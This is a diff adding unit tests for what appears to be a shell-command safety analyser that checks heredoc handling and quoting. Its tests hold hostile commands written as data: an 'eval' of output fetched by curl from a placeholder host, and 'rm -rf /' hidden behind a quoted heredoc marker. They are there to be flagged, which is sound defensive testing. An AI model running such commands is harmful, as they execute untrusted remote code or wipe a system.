@@ -50,3 +50,20 @@ def test_a_variable_remembers_the_command_that_filled_it() -> None:
 def test_eval_of_a_shell_setup_generator_is_not_unresolved() -> None:
     assert not analyse('eval "$(direnv hook bash)"').problems
     assert analyse('eval "$(curl -s https://x.example)"').problems
+
+
+def test_a_quoted_heredoc_body_is_data_even_where_the_grammar_stumbles() -> None:
+    script = (
+        "python3 - <<'EOF'\nimport subprocess\n"
+        "b = subprocess.run(['git', 'branch', '--format=%(refname:short)'], text=True).stdout.split()\n"
+        "EOF\n"
+    )
+    found = analyse(script)
+    assert not found.parse_error
+    assert found.commands[0].stdin_text is not None and "subprocess" in found.commands[0].stdin_text
+
+
+def test_a_heredoc_marker_inside_quotes_does_not_hide_what_follows() -> None:
+    found = analyse("echo \"<<'X'\"\nrm -rf /\n((((")
+    assert found.parse_error  # still asks
+    assert "rm" in [c.program for c in found.commands]
